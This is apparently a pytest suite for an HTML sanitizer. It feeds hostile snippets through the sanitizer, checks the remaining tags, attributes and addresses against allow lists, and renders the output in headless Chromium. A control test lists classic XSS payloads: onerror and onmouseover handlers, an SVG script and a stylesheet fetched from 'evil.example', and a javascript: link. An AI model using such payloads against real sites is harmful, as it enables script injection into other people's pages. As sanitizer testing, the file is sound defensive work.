"""Hostile HTML leaves nothing executable (A18, A23): by the markup that remains, and in a real browser.

Each file of tests/cases/text/hostile holds one family of snippets. `hit(1)` in them must never run, and nothing may ask `evil.example`.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from aggregator.text.html import sanitize_html
from tests.casefiles import CASES
from tests.loopback import Answer, Loopback
from tests.test_browser import CHROMIUM, browse

FAMILIES = sorted((CASES / "text" / "hostile").glob("*.json"))
SNIPPETS = [(path.stem, snippet) for path in FAMILIES for snippet in json.loads(path.read_text(encoding="utf-8"))]
BASE = "https://example.org/blog/post"

#: What may remain; a list of its own, so that the sanitizer's is not its own judge.
TAGS = frozenset(
    "a abbr article aside address audio b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption "
    "figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strong "
    "sub summary sup table tbody td tfoot th thead time tr tt u ul var video wbr".split()
)
ADDRESSES = frozenset(("href", "src", "srcset", "poster"))
ATTRIBUTES = ADDRESSES | frozenset(
    "alt colspan controls datetime dir headers height hreflang lang media reversed rowspan scope sizes span start title type value "
    "width".split()
)
FETCHED = ("img", "source", "video", "audio")


class Markup(HTMLParser):
    """The tags, attributes and addresses in HTML, and everything else that is no text, by Python's own parser."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: set[str] = set()
        self.fetched: set[str] = set()
        self.strange: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        for name, value in attrs:
            if name in ADDRESSES:
                found = {part.split()[0] for part in re.split(r",\s+", value or "")} if name == "srcset" else {value or ""}
                self.addresses |= found
                self.fetched |= found if tag in FETCHED else set()

    def handle_comment(self, data: str) -> None:
        self.strange.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def test_there_are_two_hundred_snippets_and_more() -> None:
    assert len({snippet for _, snippet in SNIPPETS}) >= 200


@pytest.mark.parametrize(("family", "snippet"), SNIPPETS, ids=[f"{family}: {snippet[:60]!a}" for family, snippet in SNIPPETS])
def test_hostile_html_leaves_nothing_executable(family: str, snippet: str) -> None:
    cleaned = sanitize_html(snippet, BASE)
    markup = Markup(cleaned)
    assert markup.tags <= TAGS
    assert markup.attributes <= ATTRIBUTES
    assert not markup.strange
    assert all(re.match(r"https?://[^/]", address) for address in markup.addresses)
    assert sanitize_html(cleaned, "https://elsewhere.example/") == cleaned


# --- in a browser ---------------------------------------------------------------------------------------------------

PAGE = """<!DOCTYPE html><meta charset=utf-8><title>x</title><script>
const ran = [];
function hit(number) { ran.push(number); }
addEventListener("click", event => event.preventDefault(), true);
const events = "click dblclick mouseover mouseenter mousedown pointerover wheel scroll focus focusin copy toggle beforetoggle beforematch "
  + "beforeinput animationstart transitionend begin load error start finish close input invalid";
function poke() {
  for (const element of document.querySelectorAll("main *"))
    for (const name of events.split(" ")) element.dispatchEvent(new Event(name, {bubbles: false, cancelable: true}));
}
function leads() {
  return [...document.querySelectorAll("main a, main area")].map(link => link.protocol).filter(name => !/^https?:$/.test(name));
}
function look() { poke(); document.documentElement.dataset.report = JSON.stringify({ran: [...new Set(ran)], leads: leads()}); }
addEventListener("load", () => {
  look();
  const main = document.querySelector("main");
  for (let round = 0; round < 2; round++) { main.innerHTML = main.innerHTML; look(); }
  setTimeout(look, 500);
});
</script><main>%s</main>"""


def show(snippets: Iterable[str], server: Loopback, profile: Path) -> tuple[dict[str, Any], set[str]]:
    """What ran or leads to no page when a browser shows these pieces of HTML, and whom it asked for what."""
    body = "".join(f"<div>{snippet}</div>\n" for snippet in snippets).replace("evil.example", server.host)
    server.routes["/"] = Answer(200, (PAGE % body).encode("utf-8", "replace"), {"Content-Type": "text/html; charset=utf-8"})
    # No other host is found, so that no picture of a snippet is looked for.
    dom, _ = browse(
        server.url("/"), profile, "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1", "--virtual-time-budget=5000", "--dump-dom"
    )
    (report,) = re.findall(r'data-report="([^"]*)"', dom)
    return json.loads(unescape(report)), {request.path for request in server.requests} - {"/", "/favicon.ico"}


@pytest.mark.all
@pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed (Debian has it as chromium): no snippet was shown to a browser")
def test_no_snippet_runs_or_asks_anyone_in_a_browser(loopback: Loopback, tmp_path: Path) -> None:
    numbered = [snippet.replace("hit(1)", f"hit({number})") for number, (_, snippet) in enumerate(SNIPPETS)]
    cleaned = [sanitize_html(snippet.replace("evil.example", loopback.host), BASE) for snippet in numbered]
    pictures = {address.removeprefix(loopback.url("")) for html in cleaned for address in Markup(html).fetched}
    report, asked = show(cleaned, loopback, tmp_path)
    assert [SNIPPETS[number] for number in report["ran"]] == []
    assert report["leads"] == []
    assert asked <= pictures


@pytest.mark.all
@pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed (Debian has it as chromium): no snippet was shown to a browser")
def test_the_browser_would_tell(loopback: Loopback, tmp_path: Path) -> None:
    raw = [
        "<img src=x onerror=hit(0)>",
        "<p onmouseover=hit(1)>x</p>",
        '<svg><script href="http://evil.example/x.js"/></svg>',
        "<link rel=stylesheet href='http://evil.example/x.css'>",
        "<a href='javascript:hit(2)'>x</a>",
    ]
    report, asked = show(raw, loopback, tmp_path)
    assert set(report["ran"]) == {0, 1}
    assert report["leads"] == ["javascript:"]
    assert asked == {"/x", "/x.js", "/x.css"}
